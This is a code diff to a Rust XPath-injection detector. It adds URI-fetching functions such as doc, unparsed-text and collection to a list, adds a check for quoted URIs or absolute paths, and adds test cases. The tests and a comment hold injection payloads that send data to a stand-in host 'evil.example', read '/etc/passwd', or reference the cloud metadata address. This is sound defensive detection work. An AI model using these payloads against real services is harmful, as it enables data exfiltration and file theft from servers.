@@ -57,7 +57,20 @@ const FUNCTIONS: &[&[u8]] = &[
     b"doc-available",
     b"document",
     b"unparsed-text",
+    b"unparsed-text-lines",
+    b"collection",
     b"string-to-codepoints",
+];
+
+/// XPath 2.0 and XSLT functions that fetch a document by URI: in a query, a request the server
+/// makes (`doc('http://169.254.169.254/…')`) or a local file it reads (`unparsed-text('/etc/…')`).
+const FETCHERS: &[&[u8]] = &[
+    b"doc",
+    b"doc-available",
+    b"document",
+    b"unparsed-text",
+    b"unparsed-text-lines",
+    b"collection",
 ];
 
 /// Finds XPath injection in one value.
@@ -87,6 +100,9 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
         }
         // A function of a path: `count(/*)`, `name(/*[1])`, `count(//user)`.
         let arg = &b[open + 1..];
+        if FETCHERS.contains(&name) && fetches(arg) {
+            return Some(Hit::new("xpath.expression", ws, open + 2));
+        }
         if arg.starts_with(b"/") && !arg.starts_with(b"/ ") && !arg.starts_with(b"/)") {
             return Some(Hit::new("xpath.expression", ws, open + 2));
         }
@@ -100,6 +116,19 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
         }
     }
     None
+}
+
+/// Whether a fetching function's argument is a quoted URI with a scheme, or an absolute path.
+fn fetches(arg: &[u8]) -> bool {
+    let Some((&q, rest)) = arg.split_first() else {
+        return false;
+    };
+    let scheme = rest
+        .iter()
+        .take_while(|c| c.is_ascii_alphanumeric())
+        .count();
+    matches!(q, b'\'' | b'"')
+        && (rest.starts_with(b"/") || (scheme >= 3 && rest[scheme..].starts_with(b"://")))
 }
 
 /// `child::node()`, `/descendant::user`, `ancestor-or-self::*`: an axis, `::`, then a node
@@ -190,6 +219,7 @@ mod tests {
             "x'] | //user[position()=1 and ''='",
             "x'] | //*[name='a",
             "'or text()='",
+            "x' or doc-available(concat('http://evil.example/',name(/*))) or 'x'='y",
         ] {
             assert_eq!(rule(attack), Some("xpath.filter_break"), "{attack}");
         }
@@ -205,6 +235,8 @@ mod tests {
             "/descendant::password",
             "x | //comment()",
             "name(/*[1])",
+            "1 or doc('http://evil.example/')",
+            "unparsed-text(\"/etc/passwd\")",
         ] {
             assert_eq!(rule(attack), Some("xpath.expression"), "{attack}");
         }
@@ -218,6 +250,8 @@ mod tests {
             "count (of items) / 2",
             "Please confirm the name (first and last) and the count (1/2).",
             "text() is a jQuery method",
+            "see the doc('intro') section",
+            "collection('users') in the shell",
             "She said 'or name (anyone)' twice",
             "the factor or name(x) helper",
             "name(s): Alice / Bob",
